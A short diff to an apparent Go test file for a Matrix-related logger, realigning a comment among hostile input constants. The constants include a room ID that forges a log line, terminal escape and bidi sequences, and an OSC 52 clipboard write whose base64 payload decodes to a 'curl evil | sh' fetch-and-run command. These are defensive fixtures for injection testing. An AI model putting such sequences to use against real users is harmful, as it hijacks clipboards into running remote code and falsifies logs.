@@ -26,7 +26,7 @@ const (
 	fakeLine = "2023-11-14T22:13:24.000Z  session_ended    !victim:hs1.test  m.call call=\"\"  reason=expired  devices=0 users=0  seq=9"
 	evilRoom = id.RoomID("!evil:hs1.test\n" + fakeLine)
 	osc52    = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" // writes the clipboard
-	csi      = "\x1b[2J\x1b[H\u009b31m"           // clears the screen; a C1 CSI
+	csi      = "\x1b[2J\x1b[H\u009b31m"             // clears the screen; a C1 CSI
 	bidi     = "\u202eelbisivni\u202c\u2066\u200b\ufeff\u3164"
 	ctl      = "\r\t\x7f\x00"
 )
